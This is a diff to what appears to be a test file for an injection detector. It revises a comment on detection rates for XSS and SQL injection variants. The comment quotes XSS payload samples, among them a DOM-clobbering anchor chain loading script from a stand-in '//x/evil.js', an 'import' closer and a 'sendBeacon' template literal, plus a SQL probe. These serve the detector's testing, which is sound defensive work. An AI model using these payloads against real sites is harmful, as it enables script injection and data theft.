@@ -14,13 +14,13 @@ import { hitRate } from "../support/variants/rate.js";
 const SEED = 20261128;
 
 /**
- * Floors per kind (hits of 400 at SEED, measured 2026-11-29, minus a margin). Below 100%: XSS that
- * clobbers a global only one page reads (`<a id=CONFIG><a id=scriptSrc name=src href=//x/evil.js>`: an
- * anchor with an id and a link, as ordinary markup has; rule 3023 takes the id repeated with a name),
- * and `col LIMIT 1` sent in a header (a probe with no payload; it is a clause only in a parameter named as
+ * Floors per kind (hits of 400 at SEED, measured 2026-11-29, minus a margin). Below 100%:
+ * `col LIMIT 1` sent in a header (a probe with no payload; it is a clause only in a parameter named as
  * a sort key, grouping or page size, and prose elsewhere: speed limit 50). (xss was 0.95 while a call or an
  * assignment after a closed object (`"};import('//x')//`, `"};location=name;//`) or in a template
- * literal (`${location=name}`, `${navigator.sendBeacon(...)}`) went unread: probe-seeds 69/4000 -> 5.)
+ * literal (`${location=name}`, `${navigator.sendBeacon(...)}`) went unread: probe-seeds 69/4000 -> 5; the 5 were
+ * clobbering chains over anchors of different ids, `<a id=CONFIG><a id=scriptSrc name=src href=//x/evil.js>`, which
+ * rule 3023 now takes when the named anchor's id and name differ and its href leaves the page: 0 of 4000, misses24.)
  */
 const FLOORS: Record<InjectKind, number> = {
   xss: 0.99, "sqli-numeric": 1, "sqli-clause": 0.95, "sqli-oob": 1, "sqli-json": 0.99, "sqli-syntax": 1, "sqli-second": 1,
